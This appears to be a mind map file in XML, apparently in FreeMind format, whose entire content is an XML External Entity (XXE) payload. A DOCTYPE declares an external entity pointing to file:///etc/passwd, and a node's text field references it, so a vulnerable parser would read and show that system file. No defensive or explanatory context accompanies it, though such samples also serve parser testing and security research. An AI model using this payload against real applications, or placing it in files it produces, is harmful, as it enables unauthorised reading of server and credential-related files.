<!DOCTYPE map [<!ENTITY e SYSTEM "file:///etc/passwd">]><map><node TEXT="&e;"/></map>
